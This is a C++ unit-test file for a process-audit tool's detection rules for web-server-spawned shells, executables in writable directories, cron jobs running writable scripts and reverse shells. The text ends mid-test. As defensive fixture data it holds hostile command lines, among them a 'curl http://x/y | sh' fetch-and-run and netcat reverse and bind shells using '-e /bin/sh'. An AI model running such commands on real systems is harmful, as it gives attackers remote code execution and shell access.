// The audit rules web-server-spawned-shell, exec-from-writable-dir,
// cron-runs-writable-script, reverse-shell and unexpected-listener on
// hand-built process trees. Where a rule reads more than the tree (fd links,
// the sockets a process holds, the mode of a file as the process sees it),
// the process is also put in a fake /proc whose fd links name real sockets
// this test opens on loopback and whose root link is a temp directory.
#include <arpa/inet.h>
#include <netinet/in.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <unistd.h>

#include <algorithm>
#include <filesystem>
#include <fstream>

#include <gtest/gtest.h>

#include "audit/classify.h"
#include "audit/rules.h"
#include "audit/scene.h"
#include "fake_procfs.h"
#include "fake_verifier.h"

namespace lineage::audit {
namespace {

namespace fs = std::filesystem;
using testing::FakeProcfs;
using Strings = std::vector<std::string>;

constexpr uint64_t kSecond = 1'000'000'000;

core::Process proc(int32_t pid, int32_t ppid, const std::string& exe, Strings argv, uint32_t euid = 0) {
  core::Process p;
  p.key = {pid, 100 * kSecond + static_cast<uint64_t>(pid)};
  p.stat.pid = pid;
  p.stat.ppid = ppid;
  size_t slash = exe.rfind('/');
  p.stat.comm = exe.substr(slash == std::string::npos ? 0 : slash + 1).substr(0, 15);
  p.exe = core::ExeInfo{exe, false};
  p.argv = std::move(argv);
  p.status = core::StatusInfo{};
  p.status->uid = {euid, euid, euid, euid};
  return p;
}

core::Process deleted(core::Process p) {
  p.exe->deleted = true;
  return p;
}

bool has_evidence(const Finding& f, std::string_view part) {
  return std::any_of(f.evidence.begin(), f.evidence.end(),
                     [&](const std::string& e) { return e.find(part) != std::string::npos; });
}

std::string all_evidence(const Finding& f) {
  std::string out;
  for (const auto& e : f.evidence) out += e + " | ";
  return out;
}

class AuditRulesA : public ::testing::Test {
 protected:
  AuditRulesA() : reader_(*procfs::ProcReader::open(fake_.root())) {
    sys_.boot_ns_now = 1000 * kSecond;
    sys_.ticks_per_second = 100;
    std::string tmpl = (fs::temp_directory_path() / "auditroot.XXXXXX").string();
    if (::mkdtemp(tmpl.data()) == nullptr) throw std::runtime_error("mkdtemp failed");
    root_ = tmpl;
  }
  ~AuditRulesA() override {
    std::error_code ec;
    fs::remove_all(root_, ec);
    for (int fd : fds_) ::close(fd);
  }

  /// Puts p in the fake /proc (its root link: the temp root) so the scene
  /// can read its fds and stat paths as it sees them.
  core::Process live(core::Process p) {
    testing::FakeProcess f;
    f.pid = p.pid();
    f.ppid = p.stat.ppid;
    f.comm = p.stat.comm;
    f.start_ticks = 10'000 + static_cast<uint64_t>(p.pid());
    f.argv = *p.argv;
    fake_.add(f);
    fake_.remove(p.pid(), "root");
    fake_.link(p.pid(), "root", root_);
    p.key = {p.pid(), f.start_ticks * reader_.tick_ns()};
    return p;
  }

  /// A file under the temp root with this mode (and its directories 0755).
  void file(const std::string& path, mode_t mode) {
    fs::create_directories(fs::path(root_ + path).parent_path());
    std::ofstream(root_ + path) << "#!/bin/sh\n";
    ::chmod((root_ + path).c_str(), mode);
  }
  void dir(const std::string& path, mode_t mode) {
    fs::create_directories(root_ + path);
    ::chmod((root_ + path).c_str(), mode);
  }

  std::vector<Finding> run(std::vector<core::Process> procs, ProcessCheck check, bool with_reader = true) {
    core::ProcessTree tree(std::move(procs));
    Scene scene(tree, sys_, with_reader ? &reader_ : nullptr, &verifier_);
    std::vector<Finding> out;
    for (size_t i = 0; i < tree.size(); ++i) check(scene, i, out);
    return out;
  }

  /// A connected loopback TCP pair (client, accepted) and the listener.
  struct Tcp {
    int listener = -1, client = -1, server = -1;
    uint16_t port = 0;
  };
  Tcp tcp() {
    Tcp t;
    t.listener = keep(::socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0));
    sockaddr_in a{};
    a.sin_family = AF_INET;
    a.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
    socklen_t len = sizeof a;
    EXPECT_EQ(::bind(t.listener, reinterpret_cast<sockaddr*>(&a), sizeof a), 0);
    EXPECT_EQ(::listen(t.listener, 4), 0);
    ::getsockname(t.listener, reinterpret_cast<sockaddr*>(&a), &len);
    t.port = ntohs(a.sin_port);
    t.client = keep(::socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0));
    EXPECT_EQ(::connect(t.client, reinterpret_cast<sockaddr*>(&a), sizeof a), 0);
    t.server = keep(::accept4(t.listener, nullptr, nullptr, SOCK_CLOEXEC));
    return t;
  }
  int keep(int fd) {
    EXPECT_GE(fd, 0);
    fds_.push_back(fd);
    return fd;
  }
  static std::string socket_link(int fd) {
    struct stat st {};
    ::fstat(fd, &st);
    return "socket:[" + std::to_string(st.st_ino) + "]";
  }

  FakeProcfs fake_;
  procfs::ProcReader reader_;
  core::SystemInfo sys_;
  testing::FakeVerifier verifier_;
  std::string root_;
  std::vector<int> fds_;
};

// ---------------------------------------------------------------- classify

TEST(AuditClassifyA, WebServers) {
  EXPECT_TRUE(is_web_server(proc(1, 0, "/usr/sbin/nginx", {"nginx: worker process"})));
  EXPECT_TRUE(is_web_server(proc(1, 0, "/usr/sbin/php-fpm8.2", {"php-fpm: pool www"})));
  EXPECT_TRUE(is_web_server(proc(1, 0, "/usr/bin/python3.11", {"/usr/bin/python3", "-m", "http.server", "--cgi"})));
  EXPECT_TRUE(is_web_server(proc(1, 0, "/usr/bin/python3.11", {"/usr/bin/python3", "/usr/bin/gunicorn", "app:app"})));
  EXPECT_TRUE(is_web_server(proc(1, 0, "/usr/bin/python3.11", {"gunicorn: worker [app:app]"})));
  EXPECT_TRUE(is_web_server(proc(1, 0, "/usr/bin/python3.11", {"python3", "/srv/site/manage.py", "runserver"})));
  EXPECT_TRUE(is_web_server(proc(1, 0, "/usr/lib/jvm/bin/java",
                                 {"java", "-classpath", "/opt/tomcat/bin/bootstrap.jar", "org.apache.catalina.startup.Bootstrap"})));
  EXPECT_TRUE(is_web_server(proc(1, 0, "/usr/lib/postgresql/15/bin/postgres", {"postgres: 15/main: app db [local] idle"})));
  EXPECT_FALSE(is_web_server(proc(1, 0, "/usr/lib/postgresql/15/bin/postgres", {"postgres: 15/main: archiver"})));
  EXPECT_FALSE(is_web_server(proc(1, 0, "/usr/lib/postgresql/15/bin/postgres", {"postgres: startup recovering 0001"})));
  EXPECT_FALSE(is_web_server(proc(1, 0, "/usr/lib/jvm/bin/java", {"java", "-jar", "build-tool.jar"})));
  EXPECT_FALSE(is_web_server(proc(1, 0, "/usr/bin/python3.11", {"python3", "/srv/site/manage.py", "migrate"})));
  EXPECT_FALSE(is_web_server(proc(1, 0, "/usr/bin/python3.11", {"python3", "/usr/bin/unattended-upgrade"})));
  EXPECT_FALSE(is_web_server(proc(1, 0, "/usr/bin/bash", {"bash", "http.server"})));
}

TEST(AuditClassifyA, ReconTools) {
  EXPECT_TRUE(is_recon_tool(proc(1, 0, "/usr/bin/id", {"id"})));
  EXPECT_TRUE(is_recon_tool(proc(1, 0, "/usr/bin/w.procps", {"w"})));
  EXPECT_TRUE(is_recon_tool(proc(1, 0, "/usr/bin/cat", {"cat", "/etc/passwd"})));
  EXPECT_TRUE(is_recon_tool(proc(1, 0, "/bin/busybox", {"nc", "10.0.0.1", "4444"})));
  EXPECT_FALSE(is_recon_tool(proc(1, 0, "/usr/bin/cat", {"cat", "/var/www/index.html"})));
  EXPECT_FALSE(is_recon_tool(proc(1, 0, "/usr/bin/convert", {"convert", "a.png", "b.jpg"})));
}

TEST(AuditClassifyA, CommandFiles) {
  EXPECT_EQ(command_files("/tmp/x/job.sh >/dev/null 2>&1"), Strings({"/tmp/x/job.sh"}));
  EXPECT_EQ(command_files("bash /srv/job.sh --now"), Strings({"/srv/job.sh"}));
  EXPECT_EQ(command_files("/bin/bash -e /srv/job.sh"), Strings({"/bin/bash", "/srv/job.sh"}));
  EXPECT_EQ(command_files("PATH=/x:/y LANG=C /usr/bin/python3 -u /srv/a.py"), Strings({"/usr/bin/python3", "/srv/a.py"}));
  EXPECT_EQ(command_files("python3 -m backup /srv/x"), Strings());
  EXPECT_EQ(command_files("sh -c '/tmp/x'"), Strings());
  EXPECT_EQ(command_files("cd / && run-parts --report /etc/cron.hourly"), Strings());
  EXPECT_EQ(command_files("$HOME/bin/job"), Strings());
  EXPECT_EQ(command_files("/srv/../tmp/job"), Strings());
  EXPECT_EQ(command_files("[ -x /usr/lib/php/sessionclean ] && /usr/lib/php/sessionclean"), Strings());
  EXPECT_EQ(command_files(""), Strings());
}

TEST(AuditClassifyA, JobFiles) {
  EXPECT_EQ(job_files(proc(1, 0, "/usr/bin/dash", {"/bin/sh", "-c", "/srv/run.sh > /dev/null"})),
            Strings({"/usr/bin/dash", "/srv/run.sh"}));
  // dash exec'd the script itself: the shell runs it as a file.
  EXPECT_EQ(job_files(proc(1, 0, "/usr/bin/dash", {"/bin/sh", "/tmp/x/run.sh"})), Strings({"/usr/bin/dash", "/tmp/x/run.sh"}));
  EXPECT_EQ(job_files(proc(1, 0, "/usr/bin/python3.11", {"python3", "-u", "/srv/a.py"})),
            Strings({"/usr/bin/python3.11", "/srv/a.py"}));
  EXPECT_EQ(job_files(proc(1, 0, "/usr/bin/dash", {"sh"})), Strings({"/usr/bin/dash"}));  // atd: script on stdin
  EXPECT_EQ(job_files(proc(1, 0, "/usr/local/bin/backup", {"backup", "--full"})), Strings({"/usr/local/bin/backup"}));
  EXPECT_EQ(job_files(deleted(proc(1, 0, "/tmp/gone", {"gone"}))), Strings());
}

TEST(AuditClassifyA, OthersCanWrite) {
  struct stat st {};
  st.st_mode = S_IFDIR | 0777;
  EXPECT_EQ(others_can_write(st, false, {}), "world-writable directory without sticky bit (mode 0777)");
  st.st_mode = S_IFDIR | 01777;
  EXPECT_EQ(others_can_write(st, false, {}), "");
  EXPECT_EQ(others_can_write(st, true, {}), "world-writable directory (mode 1777, sticky)");
  st.st_mode = S_IFREG | 0666;
  EXPECT_EQ(others_can_write(st, false, {}), "world-writable (mode 0666)");
  st.st_mode = S_IFREG | 0755;
  st.st_uid = 1001;
  EXPECT_EQ(others_can_write(st, false, {0, 1000}), "owned by uid 1001 (mode 0755)");
  EXPECT_EQ(others_can_write(st, false, {0, 1001}), "");
  st.st_mode = S_IFLNK | 0777;
  EXPECT_EQ(others_can_write(st, false, {}), "");
}

TEST(AuditClassifyA, LifetimeCpuShare) {
  core::SystemInfo sys;
  sys.boot_ns_now = 110 * kSecond;
  sys.ticks_per_second = 100;
  core::Process p = proc(9, 1, "/tmp/busy", {"busy"});
  p.key.start_time_ns = 100 * kSecond;  // 10 s old
  p.stat.utime_ticks = 900;             // 9 s of CPU
  EXPECT_NEAR(*lifetime_cpu_share(p, sys), 0.9, 0.01);
  p.key.start_time_ns = 109 * kSecond;  // 1 s old: too young to judge
  EXPECT_FALSE(lifetime_cpu_share(p, sys));
}

// ------------------------------------------------- web-server-spawned-shell

TEST_F(AuditRulesA, WebServerShellIsFoundOnceAtTheTop) {
  auto out = run({proc(1, 0, "/sbin/init", {"/sbin/init"}),
                  proc(100, 1, "/usr/sbin/nginx", {"nginx: master process /usr/sbin/nginx"}),
                  proc(101, 100, "/usr/sbin/nginx", {"nginx: worker process"}),
                  proc(102, 101, "/usr/bin/dash", {"sh", "-c", "id; cat /etc/passwd"}),
                  proc(103, 102, "/usr/bin/id", {"id"}),
                  proc(104, 102, "/usr/bin/cat", {"cat", "/etc/passwd"})},
                 check_web_server_spawned_shell);
  ASSERT_EQ(out.size(), 1u);
  EXPECT_EQ(out[0].rule, "web-server-spawned-shell");
  EXPECT_EQ(out[0].severity, Severity::kHigh);
  EXPECT_EQ(out[0].process.pid, 102);
  EXPECT_EQ(out[0].related_pid, 101);
  EXPECT_TRUE(has_evidence(out[0], "server pid 101 runs /usr/sbin/nginx")) << all_evidence(out[0]);
  EXPECT_EQ(out[0].title, "a shell below the web server nginx (pid 101)");
  EXPECT_TRUE(has_evidence(out[0], "argv sh -c id; cat /etc/passwd"));
}

TEST_F(AuditRulesA, WebServerReconAndOneLinerThroughAScript) {
  auto out = run({proc(1, 0, "/sbin/init", {"/sbin/init"}),
                  proc(200, 1, "/usr/bin/python3.11", {"/usr/bin/python3", "-m", "http.server", "--cgi", "8000"}),
                  proc(201, 200, "/usr/bin/python3.11", {"/usr/bin/python3", "/srv/cgi-bin/run.py"}),
                  proc(202, 201, "/usr/bin/whoami", {"whoami"}),
                  proc(203, 201, "/usr/bin/perl", {"perl", "-e", "print 1"})},
                 check_web_server_spawned_shell);
  ASSERT_EQ(out.size(), 2u);
  EXPECT_EQ(out[0].process.pid, 202);
  EXPECT_EQ(out[0].related_pid, 200);
  EXPECT_TRUE(has_evidence(out[0], "through 1 process between"));
  EXPECT_EQ(out[1].process.pid, 203);
}

TEST_F(AuditRulesA, WebServerNegatives) {
  core::Process vscode_shell = proc(303, 302, "/usr/bin/bash", {"bash"});
  vscode_shell.stat.tty_nr = 34817;  // a terminal a server handed out
  auto out = run({proc(1, 0, "/sbin/init", {"/sbin/init"}),
                  proc(300, 1, "/usr/sbin/php-fpm8.2", {"php-fpm: master process (/etc/php/8.2/fpm/php-fpm.conf)"}),
                  proc(301, 300, "/usr/sbin/php-fpm8.2", {"php-fpm: pool www"}),
                  proc(302, 1, "/usr/bin/node", {"node", "/srv/server.js"}), vscode_shell,
                  proc(304, 303, "/usr/bin/ps", {"ps"}),
                  proc(305, 300, "/usr/bin/logger", {"logger", "started"}),
                  proc(310, 1, "/usr/lib/postgresql/15/bin/postgres", {"/usr/lib/postgresql/15/bin/postgres", "-D", "/x"}),
                  proc(311, 310, "/usr/lib/postgresql/15/bin/postgres", {"postgres: 15/main: archiver"}),
                  proc(312, 311, "/usr/bin/dash", {"sh", "-c", "cp pg_wal/0001 /archive/0001"}),
                  proc(320, 1, "/usr/sbin/sshd", {"sshd: alice"}), proc(321, 320, "/usr/bin/bash", {"-bash"}),
                  proc(322, 321, "/usr/bin/id", {"id"})},
                 check_web_server_spawned_shell);
  EXPECT_TRUE(out.empty()) << out[0].process.pid;
}

TEST_F(AuditRulesA, DatabaseBackendRunningAShell) {
  auto out = run({proc(1, 0, "/sbin/init", {"/sbin/init"}),
                  proc(310, 1, "/usr/lib/postgresql/15/bin/postgres", {"/usr/lib/postgresql/15/bin/postgres"}),
                  proc(313, 310, "/usr/lib/postgresql/15/bin/postgres", {"postgres: 15/main: app db [local] COPY"}),
                  proc(314, 313, "/usr/bin/dash", {"sh", "-c", "curl http://x/y | sh"})},
                 check_web_server_spawned_shell);
  ASSERT_EQ(out.size(), 1u);
  EXPECT_EQ(out[0].related_pid, 313);
  EXPECT_EQ(out[0].title, "a shell below the database server postgres (pid 313)");
}

// --------------------------------------------------- exec-from-writable-dir

TEST_F(AuditRulesA, ExecFromTmpShmMemfdAndDeleted) {
  auto out = run({proc(1, 0, "/sbin/init", {"/sbin/init"}), proc(10, 1, "/tmp/x", {"/tmp/x"}),
                  proc(11, 1, "/dev/shm/.k", {"k"}), deleted(proc(12, 1, "/memfd:payload", {"p"})),
                  deleted(proc(13, 1, "/home/alice/bin/tool", {"tool"})),
                  deleted(proc(14, 1, "/usr/sbin/rsyslogd", {"rsyslogd"})),
                  proc(15, 1, "/home/alice/.cache/upd", {"upd"}), proc(16, 1, "/usr/bin/bash", {"bash"})},
                 check_exec_from_writable_dir, /*with_reader=*/false);
  ASSERT_EQ(out.size(), 6u);
  EXPECT_EQ(out[0].process.pid, 10);
  EXPECT_EQ(out[0].severity, Severity::kMedium);
  EXPECT_TRUE(has_evidence(out[0], "the executable is in /tmp"));
  EXPECT_EQ(out[0].title, "runs a file in /tmp");
  EXPECT_EQ(out[1].process.pid, 11);
  EXPECT_TRUE(has_evidence(out[1], "in /dev/shm"));
  EXPECT_EQ(out[2].process.pid, 12);
  EXPECT_TRUE(has_evidence(out[2], "memfd"));
  EXPECT_EQ(out[2].severity, Severity::kMedium);
  EXPECT_EQ(out[3].process.pid, 13);
  EXPECT_TRUE(has_evidence(out[3], "deleted after it started"));
  EXPECT_EQ(out[3].severity, Severity::kMedium);
  EXPECT_EQ(out[4].process.pid, 14);  // an upgrade replaced it
  EXPECT_EQ(out[4].severity, Severity::kLow);
  EXPECT_NE(out[4].title.find("restart it"), std::string::npos);
  EXPECT_EQ(out[5].process.pid, 15);
  EXPECT_TRUE(has_evidence(out[5], "a hidden path"));
}

TEST_F(AuditRulesA, ExecFromWritableIsHighWhenBusyOrCronOrWeb) {
  core::Process busy = proc(20, 1, "/tmp/busy", {"busy"});
  busy.key.start_time_ns = 990 * kSecond;  // 10 s old at boot_ns_now 1000 s
  busy.stat.utime_ticks = 950;
  auto out = run({proc(1, 0, "/sbin/init", {"/sbin/init"}), busy,
                  proc(30, 1, "/usr/sbin/cron", {"/usr/sbin/cron", "-f"}),
                  proc(31, 30, "/usr/sbin/cron", {"/usr/sbin/cron", "-f"}),
                  proc(32, 31, "/usr/bin/dash", {"/bin/sh", "/tmp/w/job.sh"}), proc(33, 32, "/tmp/w/miner", {"miner"}),
                  proc(40, 1, "/usr/sbin/apache2", {"/usr/sbin/apache2", "-k", "start"}),
                  proc(41, 40, "/var/tmp/drop", {"drop"})},
                 check_exec_from_writable_dir, false);
  ASSERT_EQ(out.size(), 3u);
  EXPECT_EQ(out[0].severity, Severity::kHigh);
  EXPECT_TRUE(has_evidence(out[0], "cpu 95% of a core")) << all_evidence(out[0]);
  EXPECT_EQ(out[1].process.pid, 33);
  EXPECT_EQ(out[1].severity, Severity::kHigh);
  EXPECT_EQ(out[1].related_pid, 31);
  EXPECT_TRUE(has_evidence(out[1], "started by cron (pid 31)"));
  EXPECT_EQ(out[1].title, "runs a file in /tmp (started by cron)");
  EXPECT_EQ(out[2].process.pid, 41);
  EXPECT_EQ(out[2].severity, Severity::kHigh);
  EXPECT_EQ(out[2].related_pid, 40);
}

TEST_F(AuditRulesA, ExecBelowAForgedCronStaysMedium) {
  verifier_.untrusted.insert("/home/eve/cron");
  auto out = run({proc(1, 0, "/sbin/init", {"/sbin/init"}), proc(30, 1, "/home/eve/cron", {"cron"}),
                  proc(33, 30, "/tmp/w/miner", {"miner"})},
                 check_exec_from_writable_dir, false);
  ASSERT_EQ(out.size(), 1u);
  EXPECT_EQ(out[0].severity, Severity::kMedium);
  EXPECT_EQ(out[0].related_pid, 0);
}

TEST_F(AuditRulesA, ExecFromAWorldWritableDirectorySeenInTheProcessRoot) {
  dir("/srv/drop", 0777);
  file("/srv/drop/tool", 0755);
  dir("/srv/safe", 0755);
  file("/srv/safe/tool", 0755);
  file("/srv/safe/open", 0757);
  core::Process in_drop = live(proc(50, 1, "/srv/drop/tool", {"tool"}));
  core::Process in_safe = live(proc(51, 1, "/srv/safe/tool", {"tool"}));
  core::Process open_file = live(proc(52, 1, "/srv/safe/open", {"open"}));
  fake_.link(50, "exe", root_ + "/srv/drop/tool");
  fake_.link(51, "exe", root_ + "/srv/safe/tool");
  fake_.link(52, "exe", root_ + "/srv/safe/open");
  auto out = run({proc(1, 0, "/sbin/init", {"/sbin/init"}), in_drop, in_safe, open_file}, check_exec_from_writable_dir);
  ASSERT_EQ(out.size(), 2u);
  EXPECT_EQ(out[0].process.pid, 50);
  EXPECT_TRUE(has_evidence(out[0], "directory /srv/drop is world-writable directory without sticky bit (mode 0777)"))
      << all_evidence(out[0]);
  EXPECT_EQ(out[1].process.pid, 52);
  EXPECT_TRUE(has_evidence(out[1], "the executable is world-writable (mode 0757)")) << all_evidence(out[1]);
  // Without /proc behind the scene the directory is unknown: no finding.
  EXPECT_TRUE(run({proc(1, 0, "/sbin/init", {"/sbin/init"}), in_drop}, check_exec_from_writable_dir, false).empty());
}

// The whole-table audit: the scan reads where each executable lives
// (kFieldExeFile) for the paths the rule asks the file system about, and
// the rule stats a directory once per (mount namespace, root, directory).
// The files are real, at absolute paths outside the system and temp
// directories (the rule judges those by their path): under /run.
TEST_F(AuditRulesA, ScanReadsTheExecutableOnceAndTheDirectoryOncePerRoot) {
  std::string base = "/run/lineage-unit.XXXXXX";
  if (::mkdtemp(base.data()) == nullptr) GTEST_SKIP() << "cannot make a directory under /run (not root?)";
  struct Cleanup {
    std::string dir;
    ~Cleanup() {
      std::error_code ec;
      fs::remove_all(dir, ec);
    }
  } cleanup{base};
  fs::create_directories(base + "/drop");
  ::chmod((base + "/drop").c_str(), 0777);
  for (const char* name : {"/drop/a", "/drop/b", "/drop/c"}) {
    std::ofstream(base + name) << "x";
    ::chmod((base + name).c_str(), 0755);
  }
  auto add = [&](int pid, const std::string& exe, const std::string& mnt) {
    core::Process p = live(proc(pid, pid == 1 ? 0 : 1, exe, {exe}));
    fake_.remove(pid, "root");
    fake_.link(pid, "root", "/");
    fake_.link(pid, "exe", exe);
    fake_.link(pid, "ns/mnt", mnt);
    return p;
  };
  add(1, "/sbin/init", "mnt:[4026531840]");
  add(50, base + "/drop/a", "mnt:[4026531840]");
  add(51, base + "/drop/b", "mnt:[4026531840]");
  add(52, base + "/drop/c", "mnt:[4026532999]");  // another mount namespace
  add(53, "/usr/bin/true", "mnt:[4026531840]");    // a package's: judged by its path

  core::FieldMask fields = core::kFieldStat | core::kFieldCmdline | core::kFieldExe | core::kFieldExeFile;
  core::ProcessTree tree(reader_.scan(fields, nullptr, {asks_file_system}));
  auto at = [&](int32_t pid) -> const core::Process& { return tree.at(tree.find(pid)); };
  ASSERT_TRUE(at(50).exe_file && at(50).exe_file->exe && at(50).exe_file->root && at(50).exe_file->mnt_ns);
  EXPECT_EQ(at(50).exe_file->exe->mode & 07777, 0755u);
  EXPECT_EQ(*at(52).exe_file->mnt_ns, 4026532999u);
  EXPECT_FALSE(at(53).exe_file) << "a package's executable costs no stat";
  EXPECT_FALSE(at(1).exe_file);

  Scene scene(tree, sys_, &reader_, &verifier_);
  std::vector<Finding> out;
  check_exec_from_writable_dir(scene, tree.find(50), out);
  ASSERT_EQ(out.size(), 1u);
  EXPECT_TRUE(has_evidence(out[0], "directory " + base + "/drop is world-writable directory without sticky bit"))
      << all_evidence(out[0]);
  // The directory is not asked again for the same namespace and root: b
  // gets a's answer though the mode changed since; c, in another mount
  // namespace, is asked and sees the new mode.
  ::chmod((base + "/drop").c_str(), 0755);
  check_exec_from_writable_dir(scene, tree.find(51), out);
  check_exec_from_writable_dir(scene, tree.find(52), out);
  ASSERT_EQ(out.size(), 2u) << (out.size() > 2 ? all_evidence(out[2]) : "");
  EXPECT_EQ(out[1].process.pid, 51);
  // The executable's mode is the scan's: made world-writable after it, it
  // is not seen (the scan's stat is the one evidence of the table).
  ::chmod((base + "/drop/a").c_str(), 0777);
  out.clear();
  ::chmod((base + "/drop").c_str(), 0755);
  Scene fresh(tree, sys_, &reader_, &verifier_);
  check_exec_from_writable_dir(fresh, tree.find(50), out);
  EXPECT_TRUE(out.empty()) << all_evidence(out[0]);
}

// ------------------------------------------------ cron-runs-writable-script

class CronRule : public AuditRulesA {
 protected:
  std::vector<Finding> job(const std::string& exe, Strings argv, uint32_t euid = 0) {
    return run({proc(1, 0, "/sbin/init", {"/sbin/init"}), proc(500, 1, "/usr/sbin/cron", {"/usr/sbin/cron", "-f"}),
                proc(600, 500, "/usr/sbin/cron", {"/usr/sbin/cron", "-f"}), live(proc(601, 600, exe, std::move(argv), euid))},
               check_cron_runs_writable_script);
  }
  uint32_t me = ::geteuid();
};

TEST_F(CronRule, ScriptInAWorldWritableDirectory) {
  dir("/tmp/w", 0777);
  file("/tmp/w/job.sh", 0755);
  auto out = job("/usr/bin/dash", {"/bin/sh", "-c", "/tmp/w/job.sh > /dev/null 2>&1"}, me);
  ASSERT_EQ(out.size(), 1u);
  EXPECT_EQ(out[0].rule, "cron-runs-writable-script");
  EXPECT_EQ(out[0].severity, Severity::kHigh);
  EXPECT_EQ(out[0].process.pid, 601);
  EXPECT_EQ(out[0].related_pid, 600);
  EXPECT_TRUE(has_evidence(out[0], "command /bin/sh -c /tmp/w/job.sh > /dev/null 2>&1"));
  EXPECT_TRUE(has_evidence(out[0], "directory /tmp/w is world-writable directory without sticky bit")) << all_evidence(out[0]);
}

TEST_F(CronRule, WorldWritableScriptRunByAShellOrInterpreter) {
  dir("/srv", 0755);
  file("/srv/job.py", 0666);
  auto out = job("/usr/bin/python3.11", {"python3", "/srv/job.py"}, me);
  ASSERT_EQ(out.size(), 1u);
  EXPECT_TRUE(has_evidence(out[0], "file /srv/job.py is world-writable (mode 0666)"));
  file("/srv/job.sh", 0646);
  EXPECT_EQ(job("/usr/bin/bash", {"/bin/bash", "/srv/job.sh"}, me).size(), 1u);
}

TEST_F(CronRule, ScriptOwnedByAnotherUser) {
  dir("/srv", 0755);
  file("/srv/job.sh", 0755);
  // The file's owner is neither root nor the job's user: as root the test
  // gives the file away; otherwise the job runs as a uid other than ours.
  uint32_t owner = me;
  uint32_t job_uid = me == 4242 ? 4243 : 4242;
  if (me == 0) {
    owner = 4242;
    job_uid = 0;
    ASSERT_EQ(::chown((root_ + "/srv/job.sh").c_str(), owner, 0), 0);
  }
  auto out = job("/usr/bin/dash", {"/bin/sh", "-c", "/srv/job.sh"}, job_uid);
  ASSERT_EQ(out.size(), 1u);
  EXPECT_TRUE(has_evidence(out[0], "file /srv/job.sh is owned by uid " + std::to_string(owner) + " (mode 0755)"))
      << all_evidence(out[0]);
}

TEST_F(CronRule, NegativesSafeFileStickyDirUnverifiedCronNoCron) {
  dir("/usr/local/bin", 0755);
  file("/usr/local/bin/backup", 0755);
  dir("/tmp/s", 01777);
  file("/tmp/s/job.sh", 0755);
  EXPECT_TRUE(job("/usr/bin/dash", {"/bin/sh", "-c", "/usr/local/bin/backup --full"}, me).empty());
  EXPECT_TRUE(job("/usr/local/bin/backup", {"backup"}, me).empty());
  EXPECT_TRUE(job("/usr/bin/dash", {"/bin/sh", "-c", "/tmp/s/job.sh"}, me).empty());  // sticky: only its owner
  EXPECT_TRUE(job("/usr/bin/dash", {"sh"}, me).empty());  // at's script on stdin: nothing named

  dir("/tmp/w", 0777);
  file("/tmp/w/job.sh", 0755);
  verifier_.untrusted.insert("/home/eve/cron");
  auto forged = run({proc(1, 0, "/sbin/init", {"/sbin/init"}), proc(500, 1, "/home/eve/cron", {"cron"}),
                     live(proc(601, 500, "/usr/bin/dash", {"/bin/sh", "-c", "/tmp/w/job.sh"}, me))},
                    check_cron_runs_writable_script);
  EXPECT_TRUE(forged.empty());
  auto no_cron = run({proc(1, 0, "/sbin/init", {"/sbin/init"}), proc(500, 1, "/usr/bin/bash", {"bash"}),
                      live(proc(601, 500, "/usr/bin/dash", {"/bin/sh", "-c", "/tmp/w/job.sh"}, me))},
                     check_cron_runs_writable_script);
  EXPECT_TRUE(no_cron.empty());
}

// ------------------------------------------------------------ reverse-shell

TEST_F(AuditRulesA, ReverseShellOnATcpSocket) {
  Tcp t = tcp();
  int pair[2];
  ASSERT_EQ(::socketpair(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0, pair), 0);
  keep(pair[0]);
  keep(pair[1]);
  core::Process bash = live(proc(70, 1, "/usr/bin/bash", {"bash", "-i"}));
  fake_.link(70, "fd/0", socket_link(t.client));
  fake_.link(70, "fd/1", socket_link(t.client));
  fake_.link(70, "fd/2", "/dev/pts/3");
  core::Process sshd_shell = live(proc(71, 1, "/usr/bin/bash", {"-bash"}));  // sshd's socketpair
  fake_.link(71, "fd/0", socket_link(pair[0]));
  core::Process server = live(proc(72, 1, "/usr/sbin/nginx", {"nginx"}));  // not a shell
  fake_.link(72, "fd/0", socket_link(t.server));
  core::Process nc = live(proc(73, 1, "/bin/busybox", {"nc", "127.0.0.1", "4444", "-e", "/bin/sh"}));
  fake_.link(73, "fd/0", socket_link(t.server));
  core::Process plain_nc = live(proc(74, 1, "/bin/busybox", {"nc", "127.0.0.1", "4444"}));
  fake_.link(74, "fd/0", socket_link(t.server));
  auto out = run({proc(1, 0, "/sbin/init", {"/sbin/init"}), bash, sshd_shell, server, nc, plain_nc}, check_reverse_shell);
  ASSERT_EQ(out.size(), 2u);
  EXPECT_EQ(out[0].rule, "reverse-shell");
  EXPECT_EQ(out[0].severity, Severity::kCritical);
  EXPECT_EQ(out[0].process.pid, 70);
  std::string port = std::to_string(t.port);
  EXPECT_EQ(out[0].title, "stdin and stdout are a TCP socket to 127.0.0.1:" + port);
  EXPECT_TRUE(has_evidence(out[0], "fd 0 socket tcp 127.0.0.1:")) << all_evidence(out[0]);
  EXPECT_TRUE(has_evidence(out[0], "-> 127.0.0.1:" + port + " (ESTABLISHED)"));
  EXPECT_TRUE(has_evidence(out[0], "fd 1 socket tcp"));
  EXPECT_FALSE(has_evidence(out[0], "fd 2"));
  EXPECT_EQ(out[1].process.pid, 73);
  // Without /proc behind the scene nothing is known: no finding.
  EXPECT_TRUE(run({proc(1, 0, "/sbin/init", {"/sbin/init"}), bash}, check_reverse_shell, false).empty());
}

TEST_F(AuditRulesA, ReverseShellLeavesOutAcceptedConnectionsAndTheShellsChildren) {
  Tcp t = tcp();
  // A CGI script gets the client's socket from the server that accepted it.
  core::Process server = live(proc(60, 1, "/usr/bin/python3.11", {"python3", "-m", "http.server", "--cgi"}));
  fake_.link(60, "fd/3", socket_link(t.listener));
  core::Process cgi = live(proc(61, 60, "/usr/bin/dash", {"/bin/sh", "/srv/cgi-bin/x.sh"}));
  fake_.link(61, "fd/0", socket_link(t.server));
  fake_.link(61, "fd/1", socket_link(t.server));
  // A bind shell: the same accepted socket, but the listener above is nc.
  core::Process nc = live(proc(62, 1, "/bin/busybox", {"nc", "-ll", "-p", std::to_string(t.port), "-e", "/bin/sh"}));
  fake_.link(62, "fd/3", socket_link(t.listener));
  core::Process bind_shell = live(proc(63, 62, "/usr/bin/dash", {"/bin/sh"}));
  fake_.link(63, "fd/0", socket_link(t.server));
  // A reverse shell and a child of it on the same socket.
  core::Process bash = live(proc(70, 1, "/usr/bin/bash", {"bash", "-i"}));
